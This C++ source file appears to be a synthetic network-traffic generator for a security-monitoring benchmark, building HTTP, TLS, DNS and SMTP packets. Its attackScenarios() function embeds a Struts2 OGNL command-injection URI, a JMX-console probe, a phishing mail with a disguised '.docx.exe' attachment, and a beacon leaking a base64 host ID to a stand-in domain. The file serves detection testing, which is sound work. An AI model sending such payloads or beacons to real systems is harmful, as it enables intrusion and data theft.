#include "bench/traffic/TrafficGenerator.hpp"

#include <array>
#include <string_view>

namespace gsoc::traffic {
namespace {

constexpr std::array<std::string_view, 24> kWords = {
    "gov", "policy", "report", "budget", "meeting", "press", "release", "minister", "statement", "data",
    "open", "council", "annual", "review", "security", "notice", "public", "comment", "index", "archive",
    "2026", "fiscal", "guideline", "summary"};
constexpr std::array<std::string_view, 4> kAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Microsoft-CryptoAPI/10.0", "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50"};

void put16(std::string& s, unsigned v) {
  s.push_back(static_cast<char>(v >> 8));
  s.push_back(static_cast<char>(v & 0xff));
}

std::string tlsRecord(std::uint8_t type, std::string_view body) {
  std::string r;
  r.push_back(static_cast<char>(type));
  r.push_back(3);
  r.push_back(3);
  put16(r, static_cast<unsigned>(body.size()));
  r.append(body);
  return r;
}

std::string clientHello(std::string_view sni, std::mt19937_64& rng) {
  std::string sni_ext;
  put16(sni_ext, static_cast<unsigned>(sni.size() + 3));
  sni_ext.push_back(0);
  put16(sni_ext, static_cast<unsigned>(sni.size()));
  sni_ext.append(sni);
  std::string ext;
  put16(ext, 0);
  put16(ext, static_cast<unsigned>(sni_ext.size()));
  ext += sni_ext;
  put16(ext, 10);  // supported groups
  put16(ext, 6);
  put16(ext, 4);
  put16(ext, 29);
  put16(ext, 23);
  put16(ext, 11);  // point formats
  put16(ext, 2);
  ext.push_back(1);
  ext.push_back(0);
  std::string hello;
  put16(hello, 0x0303);
  for (int i = 0; i < 32; ++i) hello.push_back(static_cast<char>(rng()));
  hello.push_back(0);
  put16(hello, 6);
  put16(hello, 0x1301);
  put16(hello, 0x1302);
  put16(hello, 0xc02f);
  hello.push_back(1);
  hello.push_back(0);
  put16(hello, static_cast<unsigned>(ext.size()));
  hello += ext;
  std::string hs = "\x01";
  hs.push_back(0);
  put16(hs, static_cast<unsigned>(hello.size()));
  hs += hello;
  return tlsRecord(22, hs);
}

std::string base64(std::string_view in) {
  static constexpr char kTable[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < in.size(); i += 3) {
    const unsigned n = (static_cast<unsigned char>(in[i]) << 16) |
                       (i + 1 < in.size() ? static_cast<unsigned char>(in[i + 1]) << 8 : 0u) |
                       (i + 2 < in.size() ? static_cast<unsigned char>(in[i + 2]) : 0u);
    out += kTable[n >> 18 & 63];
    out += kTable[n >> 12 & 63];
    out += i + 1 < in.size() ? kTable[n >> 6 & 63] : '=';
    out += i + 2 < in.size() ? kTable[n & 63] : '=';
    if (out.size() % 78 == 76) out += "\r\n";
  }
  return out;
}

}  // namespace

TrafficGenerator::TrafficGenerator(std::uint64_t seed, FrameSink sink, std::int64_t start_ns)
    : rng_(seed), sink_(std::move(sink)), now_(start_ns) {}

void TrafficGenerator::emit(const Bytes& frame) {
  now_ += 10'000 + static_cast<std::int64_t>(rng_() % 200'000);
  ++counters_.frames;
  counters_.bytes += frame.size();
  sink_(now_, frame);
}

std::uint16_t TrafficGenerator::ephemeralPort() { return static_cast<std::uint16_t>(49152 + rng_() % 16000); }

TcpConversation TrafficGenerator::connect(const std::string& client, const std::string& server, std::uint16_t port) {
  PacketSpec base;
  base.src = client;
  base.dst = server;
  base.sport = ephemeralPort();
  base.dport = port;
  TcpConversation c(base, static_cast<std::uint32_t>(rng_()), static_cast<std::uint32_t>(rng_()));
  for (const Bytes& f : c.handshake()) emit(f);
  return c;
}

std::string TrafficGenerator::words(std::size_t bytes) {
  std::string s;
  while (s.size() < bytes) {
    s += kWords[rng_() % kWords.size()];
    s += (rng_() % 8 == 0) ? "\n" : " ";
  }
  s.resize(bytes);
  return s;
}

std::string TrafficGenerator::fixedBytes(std::size_t bytes, std::uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::string s(bytes, '\0');
  for (char& c : s) c = static_cast<char>(rng());
  return s;
}

std::string TrafficGenerator::randomBytes(std::size_t bytes) {
  std::string s(bytes, '\0');
  for (char& c : s) c = static_cast<char>(rng_());
  return s;
}

void TrafficGenerator::sendSegmented(TcpConversation& c, bool from_client, std::string_view data) {
  for (std::size_t off = 0; off < data.size(); off += kMss) {
    const std::string_view piece = data.substr(off, kMss);
    emit(from_client ? c.client(piece) : c.server(piece));
    if (off / kMss % 2 == 1) emit(from_client ? c.server("", 0x10) : c.client("", 0x10));  // delayed ACK
  }
}

void TrafficGenerator::httpSession(const std::string& client, const std::string& server, const std::string& host,
                                   const std::string& uri, std::size_t body_bytes, const std::string& user_agent, std::uint16_t port) {
  ++counters_.http_sessions;
  TcpConversation c = connect(client, server, port);
  const std::string agent = user_agent.empty() ? std::string(kAgents[rng_() % kAgents.size()]) : user_agent;
  const std::string request = "GET " + uri + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + agent +
                              "\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: ja,en;q=0.5\r\n"
                              "Accept-Encoding: identity\r\nConnection: keep-alive\r\n\r\n";
  sendSegmented(c, true, request);
  const std::string body = "<html><body>" + words(body_bytes > 30 ? body_bytes - 30 : 1) + "</body></html>\n";
  const std::string response = "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: " +
                               std::to_string(body.size()) + "\r\n\r\n" + body;
  sendSegmented(c, false, response);
  emit(c.client("", 0x10));
  for (const Bytes& f : c.close()) emit(f);
}

void TrafficGenerator::tlsSession(const std::string& client, const std::string& server, const std::string& sni, std::size_t app_bytes) {
  ++counters_.tls_sessions;
  TcpConversation c = connect(client, server, 443);
  sendSegmented(c, true, clientHello(sni, rng_));
  std::string server_flight = tlsRecord(22, "\x02" + std::string("\x00\x00\x46", 3) + randomBytes(70));
  server_flight += tlsRecord(20, "\x01");
  server_flight += tlsRecord(23, randomBytes(2800));  // encrypted certificate flight (TLS 1.3)
  sendSegmented(c, false, server_flight);
  std::string client_data = tlsRecord(20, "\x01") + tlsRecord(23, randomBytes(300 + rng_() % 400));
  sendSegmented(c, true, client_data);
  std::string server_data;
  while (server_data.size() < app_bytes) server_data += tlsRecord(23, randomBytes(std::min<std::size_t>(16384, app_bytes - server_data.size() + 17)));
  sendSegmented(c, false, server_data);
  for (const Bytes& f : c.close()) emit(f);
}

void TrafficGenerator::dnsLookup(const std::string& client, const std::string& resolver, const std::string& name) {
  ++counters_.dns_lookups;
  std::string query;
  put16(query, static_cast<unsigned>(rng_() & 0xffff));
  put16(query, 0x0100);
  put16(query, 1);
  put16(query, 0);
  put16(query, 0);
  put16(query, 0);
  std::size_t start = 0;
  while (start <= name.size()) {
    const std::size_t dot = name.find('.', start);
    const std::string label = name.substr(start, dot == std::string::npos ? std::string::npos : dot - start);
    query.push_back(static_cast<char>(label.size()));
    query += label;
    if (dot == std::string::npos) break;
    start = dot + 1;
  }
  query.push_back(0);
  put16(query, 1);
  put16(query, 1);
  PacketSpec q;
  q.src = client;
  q.dst = resolver;
  q.proto = 17;
  q.sport = ephemeralPort();
  q.dport = 53;
  q.payload = query;
  emit(ethernetFrame(q));
  std::string answer = query;
  answer[2] = static_cast<char>(0x81);
  answer[3] = static_cast<char>(0x80);
  answer[7] = 1;  // one answer
  answer += std::string("\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04", 12);
  answer += std::string({static_cast<char>(203), 0, 113, static_cast<char>(rng_() % 250 + 1)});
  PacketSpec r = q;
  std::swap(r.src, r.dst);
  std::swap(r.sport, r.dport);
  r.payload = answer;
  emit(ethernetFrame(r));
}

void TrafficGenerator::smtpSession(const std::string& client, const std::string& server, const std::string& from, const std::string& to,
                                   const std::string& subject, const std::string& attachment_name, std::size_t attachment_bytes,
                                   std::uint64_t attachment_seed) {
  ++counters_.smtp_sessions;
  TcpConversation c = connect(client, server, 25);
  emit(c.server("220 mx.example.go.jp ESMTP\r\n"));
  emit(c.client("EHLO mail.sender.example\r\n"));
  emit(c.server("250-mx.example.go.jp\r\n250 SIZE 52428800\r\n"));
  emit(c.client("MAIL FROM:<" + from + ">\r\n"));
  emit(c.server("250 2.1.0 Ok\r\n"));
  emit(c.client("RCPT TO:<" + to + ">\r\n"));
  emit(c.server("250 2.1.5 Ok\r\n"));
  emit(c.client("DATA\r\n"));
  emit(c.server("354 End data with <CR><LF>.<CR><LF>\r\n"));
  const std::string message = "From: <" + from + ">\r\nTo: <" + to + ">\r\nSubject: =?UTF-8?B?" + base64(subject) +
                              "?=\r\nMessage-ID: <" + std::to_string(rng_()) + "@sender.example>\r\nMIME-Version: 1.0\r\n"
                              "Content-Type: multipart/mixed; boundary=\"gsoc-b\"\r\n\r\n--gsoc-b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
                              words(400) + "\r\n--gsoc-b\r\nContent-Type: application/octet-stream; name=\"" + attachment_name +
                              "\"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"" + attachment_name +
                              "\"\r\n\r\n" + base64(attachment_seed != 0 ? fixedBytes(attachment_bytes, attachment_seed) : randomBytes(attachment_bytes)) + "\r\n--gsoc-b--\r\n.\r\n";
  sendSegmented(c, true, message);
  emit(c.server("250 2.0.0 Ok: queued\r\n"));
  emit(c.client("QUIT\r\n"));
  emit(c.server("221 2.0.0 Bye\r\n"));
  for (const Bytes& f : c.close()) emit(f);
}

void TrafficGenerator::tcpSession(const std::string& client, const std::string& server, std::uint16_t port, std::size_t client_bytes,
                                  std::size_t server_bytes) {
  ++counters_.tcp_sessions;
  TcpConversation c = connect(client, server, port);
  if (client_bytes > 0) sendSegmented(c, true, randomBytes(client_bytes));
  if (server_bytes > 0) sendSegmented(c, false, randomBytes(server_bytes));
  emit(c.client("", 0x10));
  for (const Bytes& f : c.close()) emit(f);
}

void TrafficGenerator::mixed(std::uint64_t bytes, const TrafficMix& mix) {
  auto address = [&](const char* prefix) { return std::string(prefix) + std::to_string(1 + rng_() % 250); };
  std::uniform_real_distribution<double> pick(0.0, mix.http + mix.tls + mix.dns + mix.smtp);
  const std::uint64_t target = counters_.bytes + bytes;
  while (counters_.bytes < target) {
    const double p = pick(rng_);
    const std::string client = address("192.0.2.");
    // External servers stay clear of 203.0.113.0/25, where the attack scenarios' actors live.
    const std::string server = "203.0.113." + std::to_string(130 + rng_() % 120);
    const std::string host = std::string(kWords[rng_() % kWords.size()]) + ".example.com";
    if (p < mix.http) {
      const std::string uri = "/" + std::string(kWords[rng_() % kWords.size()]) + "/" + std::string(kWords[rng_() % kWords.size()]) + ".html";
      httpSession(client, server, host, uri, 500 + rng_() % 60000);
    } else if (p < mix.http + mix.tls) {
      tlsSession(client, server, host, 2000 + rng_() % 120000);
    } else if (p < mix.http + mix.tls + mix.dns) {
      dnsLookup(client, "192.0.2.53", host);
    } else {
      smtpSession(server, "192.0.2.25", "news@" + host, "info@mofa.example.go.jp", "月次報告", "report.pdf", 5000 + rng_() % 40000);
    }
  }
}

void TrafficGenerator::attackScenarios() {
  httpSession("203.0.113.66", "192.0.2.10", "www.mofa.example.go.jp",
              "/struts2/login.action?redirect:%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", 300);
  httpSession("203.0.113.66", "192.0.2.11", "portal.mofa.example.go.jp", "/jmx-console/HtmlAdaptor?action=inspectMBean", 300);
  smtpSession("203.0.113.90", "192.0.2.25", "joho-kyoyu@freemail.example", "minister-office@mofa.example.go.jp", "資料送付",
              "資料.docx.exe", 24000, 0x5a1d0c);  // the wave's one file, the same at every agency
  dnsLookup("192.0.2.77", "192.0.2.53", "cdn.update-check.example");
  httpSession("192.0.2.77", "203.0.113.66", "cdn.update-check.example", "/news/QUdFTkNZLU1PRkEtSE9TVC0wNzc=.html", 200,
              "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)");
}

}  // namespace gsoc::traffic
